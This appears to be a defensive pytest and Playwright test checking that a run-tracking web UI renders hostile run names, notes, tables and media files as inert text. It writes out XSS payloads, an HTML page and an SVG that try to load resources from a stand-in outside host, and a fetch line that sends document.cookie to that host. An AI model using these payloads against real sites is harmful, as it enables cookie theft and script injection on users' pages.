"""A run whose every field is hostile: all of it is text, and none of its pages and pictures reaches anything."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from browser.conftest import Open
from projects import Project
from server.conftest import running

pytest.importorskip("playwright")
from playwright.sync_api import Page, expect

HOSTILE = """
    import sys
    import anew
    bad = "<img src=x onerror=\\"document.title='broken into'\\"><script>document.title='broken into'</script>"
    run = anew.init(name=bad, project=bad, config={bad: bad}, tags={bad: bad}, notes=bad)
    anew.log({bad: 1.0}, step=0)
    anew.log({bad: 0.5}, step=1)
    anew.log({bad + "t": anew.Text(bad), bad + "table": anew.Table([bad, "__proto__"], [[bad, bad]])}, step=1)
    print(bad, "\\033]0;broken into\\007", bad, file=sys.stderr)
    elsewhere = sys.argv[1]
    open("page.html", "w").write(f'''<!doctype html><h1>A report</h1>
        <form action="{elsewhere}/form"><button>send</button></form>
        <meta http-equiv="refresh" content="0;url={elsewhere}/refresh"><base href="{elsewhere}/">
        <img src="{elsewhere}/picture"><link rel="stylesheet" href="{elsewhere}/style">
        <iframe src="{elsewhere}/frame"></iframe><script src="{elsewhere}/script"></script>
        <script>parent.document.title = 'broken into'; fetch("{elsewhere}/fetch" + document.cookie)</script>
        <body onload="top.document.title='broken into'">''')
    open("picture.svg", "w").write(f'''<svg xmlns="http://www.w3.org/2000/svg" width="80" height="60"
        onload="top.document.title='broken into'"><image href="{elsewhere}/image" width="9" height="9"/>
        <script>parent.document.title = 'broken into'; fetch("{elsewhere}/svg")</script>
        <rect width="80" height="60" fill="teal"/></svg>''')
    open("none.png", "w").write("<script>document.title='broken into'</script>")
    open("torn.png", "wb").write(b"\\x89PNG\\r\\n\\x1a\\n" + b"torn" * 9)
    open("lie.csv", "wb").write(bytes(range(256)) * 9)
"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """A host that should never be asked, and what it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

    class Door(ThreadingHTTPServer):
        def get_request(self) -> Any:
            asked.append("a connection")
            return super().get_request()

    server = Door(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def test_a_hostile_run_is_text(opened: Open, tmp_path: Path, elsewhere: tuple[str, list[str]]) -> None:
    host, asked = elsewhere
    project = Project(tmp_path / "work", tmp_path / "home")
    project.write("bad.py", HOSTILE)
    run = project.run("bad.py", host)

    def whole(page: Page) -> None:
        expect(page.locator(".skeleton")).to_have_count(0)
        assert page.locator("main script, main [onerror], main [onload]").count() == 0
        assert page.title() != "broken into" and page.url.startswith(address)

    with running(project.root / ".anew") as (address, _):
        for part in ("overview", "charts", "config", "code", "data", "environment", "console"):
            page = opened(f"/runs/{run}?tab={part}", address=address)
            expect(page.get_by_role("heading", name="<img src=x", level=1)).to_be_visible()
            whole(page)
        page = opened(f"/runs/{run}?tab=media", address=address)
        # Nothing can be asked of a frame that runs no script; that it stays where it is can be seen from outside.
        expect(page.locator("iframe[title='page.html']")).to_have_attribute("sandbox", "")
        expect(page.get_by_text("This picture is damaged")).to_be_visible()
        expect(page.get_by_role("region", name="none.png").first).to_contain_text("<script>")
        expect(page.get_by_role("img", name="picture.svg")).to_have_js_property("naturalWidth", 80)
        page.wait_for_timeout(500)  # for what must not come
        whole(page)
        assert {frame.url[:5] for frame in page.frames[1:]} == {"blob:"}
        page = opened(f"/runs/{run}?tab=data&file=wrote:lie.csv", address=address)
        expect(page.get_by_text("Not a text")).to_be_visible()
        whole(page)
        for path in ("/", "/runs"):
            page = opened(path, address=address)
            expect(page.get_by_text("<img src=x").first).to_be_visible()
            whole(page)
        for context in page.context.browser.contexts:  # type: ignore[union-attr]
            for one in context.pages:
                one.close()
    assert asked == []
